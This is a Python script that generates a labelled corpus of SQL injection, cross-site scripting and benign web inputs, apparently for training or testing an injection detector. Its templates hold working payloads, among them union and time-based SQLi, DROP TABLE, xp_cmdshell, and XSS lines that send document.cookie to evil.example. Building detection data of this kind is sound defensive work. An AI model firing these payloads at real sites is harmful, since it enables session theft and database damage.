#!/usr/bin/env python3
"""Regenerates data/corpus/{sqli,xss,benign}.txt.

Attack lines follow the payload families that common scanners emit
(boolean/union/error/time-based SQLi, tag/event/scheme XSS); benign lines
are form fields, search queries and API parameters. Output is
deterministic.
"""
import argparse
import pathlib
import random
import urllib.parse


def sqli_payloads(rng):
    quotes = ["'", '"', "')", "\")", "'))", ""]
    numbers = ["1", "2", "10", "99", "1337", "0"]
    comments = ["-- ", "--", "#", "/*", "-- -", ";--"]
    tables = ["users", "admin", "accounts", "members", "information_schema.tables", "mysql.user"]
    columns = ["username,password", "user,pass", "table_name", "column_name", "email,hash", "1,2,3", "null,null"]
    out = set()
    families = [
        lambda: f"{rng.choice(numbers)}{rng.choice(quotes)} OR {rng.choice(quotes[:2])}{rng.choice(numbers)}{rng.choice(quotes[:2])}={rng.choice(quotes[:2])}{rng.choice(numbers)}",
        lambda: f"{rng.choice(quotes)} or 1=1{rng.choice(comments)}",
        lambda: f"admin{rng.choice(quotes)}{rng.choice(comments)}",
        lambda: f"{rng.choice(numbers)}{rng.choice(quotes)} UNION SELECT {rng.choice(columns)} FROM {rng.choice(tables)}{rng.choice(comments)}",
        lambda: f"{rng.choice(numbers)} union all select {rng.choice(columns)}{rng.choice(comments)}",
        lambda: f"{rng.choice(numbers)}{rng.choice(quotes)} AND SLEEP({rng.randint(1, 10)}){rng.choice(comments)}",
        lambda: f"{rng.choice(numbers)}; WAITFOR DELAY '0:0:{rng.randint(1, 9)}'--",
        lambda: f"{rng.choice(numbers)}{rng.choice(quotes)} AND {rng.randint(1, 9999)}={rng.randint(1, 9999)}{rng.choice(comments)}",
        lambda: f"{rng.choice(numbers)}{rng.choice(quotes)} AND (SELECT COUNT(*) FROM {rng.choice(tables)})>0{rng.choice(comments)}",
        lambda: f"{rng.choice(numbers)} AND extractvalue(1,concat(0x7e,(select version())))",
        lambda: f"{rng.choice(numbers)}{rng.choice(quotes)}; DROP TABLE {rng.choice(tables)};{rng.choice(comments)}",
        lambda: f"{rng.choice(numbers)} ORDER BY {rng.randint(1, 20)}{rng.choice(comments)}",
        lambda: f"{rng.choice(quotes)} OR {rng.choice(quotes[:2])}x{rng.choice(quotes[:2])}={rng.choice(quotes[:2])}x",
        lambda: f"{rng.choice(numbers)}{rng.choice(quotes)} AND 1=CAST((SELECT {rng.choice(['user', 'version()', 'database()'])}) AS INT){rng.choice(comments)}",
        lambda: f"{rng.choice(numbers)} AND BENCHMARK({rng.randint(1, 9)}000000,MD5(1))",
        lambda: f"{rng.choice(numbers)}{rng.choice(quotes)} OR {rng.randint(1, 99)}<{rng.randint(100, 999)}{rng.choice(comments)}",
        lambda: f"{rng.choice(quotes)}; EXEC xp_cmdshell({rng.choice(quotes[:2])}dir{rng.choice(quotes[:2])});--",
        lambda: f"{rng.choice(numbers)}{rng.choice(quotes)} and substring(@@version,1,1)={rng.randint(4, 8)}{rng.choice(comments)}",
        lambda: f"{rng.choice(numbers)} AND 1=1 UNION SELECT NULL,{rng.choice(columns)}--",
        lambda: f"{rng.choice(quotes)} || {rng.choice(quotes[:2])}1{rng.choice(quotes[:2])}={rng.choice(quotes[:2])}1",
        lambda: f"{rng.choice(numbers)}) or ({rng.choice(numbers)}={rng.choice(numbers)}",
        lambda: f"{rng.choice(numbers)}{rng.choice(quotes)} AND ASCII(SUBSTRING((SELECT password FROM {rng.choice(tables)} LIMIT 1),{rng.randint(1, 32)},1))>{rng.randint(32, 126)}--",
        lambda: f"-{rng.choice(numbers)} UNION SELECT 0x{rng.getrandbits(32):08x},{rng.choice(columns)}#",
        lambda: f"{rng.choice(numbers)}{rng.choice(quotes)} OR SLEEP({rng.randint(1, 9)})='",
    ]
    while len(out) < 240:
        p = rng.choice(families)()
        if rng.random() < 0.25:
            p = "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in p)
        if rng.random() < 0.2:
            p = urllib.parse.quote(p, safe="")
        elif rng.random() < 0.15:
            p = p.replace(" ", "/**/")
        out.add(p)
    return sorted(out)


def xss_payloads(rng):
    sinks = ["alert(1)", "alert(document.cookie)", "prompt(1)", "confirm(1)", "alert(String.fromCharCode(88,83,83))",
             "eval(atob('YWxlcnQoMSk='))", "alert`1`", "document.location='http://evil.example/?c='+document.cookie",
             "window.location='//evil.example'", "fetch('//evil.example/'+document.cookie)"]
    events = ["onerror", "onload", "onmouseover", "onfocus", "onclick", "onanimationstart", "onpointerenter", "ontoggle"]
    tags = ["img", "svg", "body", "iframe", "video", "audio", "details", "input", "div", "a", "marquee"]
    out = set()
    families = [
        lambda: f"<script>{rng.choice(sinks)}</script>",
        lambda: f"<{rng.choice(tags)} src=x {rng.choice(events)}={rng.choice(sinks)}>",
        lambda: f"<{rng.choice(tags)} {rng.choice(events)}=\"{rng.choice(sinks)}\">",
        lambda: f"\"><script>{rng.choice(sinks)}</script>",
        lambda: f"'><{rng.choice(tags)} {rng.choice(events)}={rng.choice(sinks)}>",
        lambda: f"<a href=\"javascript:{rng.choice(sinks)}\">click</a>",
        lambda: f"<iframe src=\"javascript:{rng.choice(sinks)}\"></iframe>",
        lambda: f"<svg/onload={rng.choice(sinks)}>",
        lambda: f"<img src=\"x\" onerror=\"{rng.choice(sinks)}\"/>",
        lambda: f"<body {rng.choice(events)}={rng.choice(sinks)}>",
        lambda: f"<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
        lambda: f"<details open ontoggle={rng.choice(sinks)}>",
        lambda: f"<input autofocus onfocus={rng.choice(sinks)}>",
        lambda: f"javascript:{rng.choice(sinks)}",
        lambda: f"<div style=\"background:url(javascript:{rng.choice(sinks)})\">",
        lambda: f"<scr<script>ipt>{rng.choice(sinks)}</scr</script>ipt>",
        lambda: f"<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{rng.choice(sinks)}\">x</a>",
        lambda: f"<math><mtext><table><mglyph><style><img src=x onerror={rng.choice(sinks)}>",
        lambda: f"';{rng.choice(sinks)};//",
        lambda: f"\";{rng.choice(sinks)};//",
        lambda: f"<form action=\"javascript:{rng.choice(sinks)}\"><input type=submit>",
        lambda: f"<embed src=\"javascript:{rng.choice(sinks)}\">",
    ]
    while len(out) < 240:
        p = rng.choice(families)()
        if rng.random() < 0.2:
            p = "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in p)
        if rng.random() < 0.2:
            p = urllib.parse.quote(p, safe="")
        out.add(p)
    return sorted(out)


TITLE_BEST = 'The "Best" Of'


def benign_payloads(rng):
    first = ["John", "Maria", "Wei", "Aisha", "Carlos", "Priya", "Liam", "Sofia", "Kenji", "Olga", "Sean", "Ines"]
    last = ["Smith", "O'Brien", "Garcia", "Chen", "Okafor", "Muller", "D'Angelo", "Novak", "Silva", "Kim", "Larsen"]
    words = ["running shoes", "best pizza near me", "weather tomorrow", "how to tie a tie", "cheap flights to paris",
             "python list comprehension", "order status", "select a size", "union station parking", "drop shipping",
             "cats and dogs", "rock or metal", "black and white photos", "where to buy tickets", "update my address",
             "delete account", "insert coin", "script writing tips", "alert settings", "image gallery", "body lotion",
             "table lamp", "iframe size", "the script of the movie", "java vs javascript", "document scanner",
             "window cleaning", "cookie recipe", "sleep better", "group chat", "limit order", "having fun"]
    cities = ["Berlin", "Lagos", "Lima", "Osaka", "Toronto", "Pune", "Austin", "Oslo"]
    families = [
        lambda: f"q={rng.choice(words).replace(' ', '+')}",
        lambda: f"search={urllib.parse.quote(rng.choice(words))}&page={rng.randint(1, 30)}",
        lambda: f"name={rng.choice(first)}+{rng.choice(last)}&email={rng.choice(first).lower()}{rng.randint(1, 99)}@example.com",
        lambda: f"id={rng.randint(1, 100000)}",
        lambda: f"user={rng.choice(first).lower()}_{rng.randint(1, 999)}&remember=true",
        lambda: f"city={rng.choice(cities)}&zip={rng.randint(10000, 99999)}",
        lambda: f"sort=price&order={rng.choice(['asc', 'desc'])}&limit={rng.choice([10, 20, 50, 100])}",
        lambda: f"comment={urllib.parse.quote(rng.choice(['Great product!', 'Fast shipping, thanks.', 'It is 5 stars for me', 'Would buy again :)', 'Size runs small; order one up', 'Love it - my kid says hi']))}",
        lambda: f"{{\"item\":{rng.randint(1, 500)},\"qty\":{rng.randint(1, 9)},\"note\":\"{rng.choice(words)}\"}}",
        lambda: f"from={rng.randint(2019, 2025)}-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}&to={rng.randint(2019, 2025)}-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}",
        lambda: f"{rng.choice(first)} {rng.choice(last)}",
        lambda: f"{rng.choice(words)} {rng.randint(1, 100)}",
        lambda: f"lang={rng.choice(['en', 'de', 'fr', 'pt-BR', 'ja'])}&theme={rng.choice(['dark', 'light'])}",
        lambda: f"price_min={rng.randint(1, 50)}&price_max={rng.randint(60, 900)}&brand={rng.choice(['acme', 'globex', 'initech'])}",
        lambda: f"token={rng.getrandbits(64):016x}&ts={rng.randint(1600000000, 1700000000)}",
        lambda: f"I'm looking for {rng.choice(words)} in {rng.choice(cities)}",
        lambda: f"phone=%2B{rng.randint(10, 99)}+{rng.randint(100, 999)}+{rng.randint(1000000, 9999999)}",
        lambda: f"address={rng.randint(1, 999)}+{rng.choice(['Main', 'Oak', 'Elm', 'High'])}+St%2C+{rng.choice(cities)}",
        lambda: f"msg=see you at {rng.randint(1, 12)}:{rng.choice(['00', '15', '30', '45'])} or later",
        lambda: f"title={urllib.parse.quote(rng.choice(['Tom & Jerry', 'Rock & Roll', '5 < 10 facts', TITLE_BEST]))}",
        lambda: f"hello world {rng.randint(1, 100)}",
        lambda: f"path=/docs/{rng.choice(['intro', 'setup', 'faq'])}.html#section-{rng.randint(1, 9)}",
    ]
    out = {"hello world 42"}
    while len(out) < 480:
        out.add(rng.choice(families)())
    return sorted(out)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--out", default=str(pathlib.Path(__file__).resolve().parent.parent / "data" / "corpus"))
    ap.add_argument("--seed", type=int, default=20240601)
    args = ap.parse_args()
    out = pathlib.Path(args.out)
    out.mkdir(parents=True, exist_ok=True)
    rng = random.Random(args.seed)
    for name, lines in (("sqli", sqli_payloads(rng)), ("xss", xss_payloads(rng)), ("benign", benign_payloads(rng))):
        (out / f"{name}.txt").write_text("\n".join(lines) + "\n")
        print(f"{name}: {len(lines)} lines")


if __name__ == "__main__":
    main()
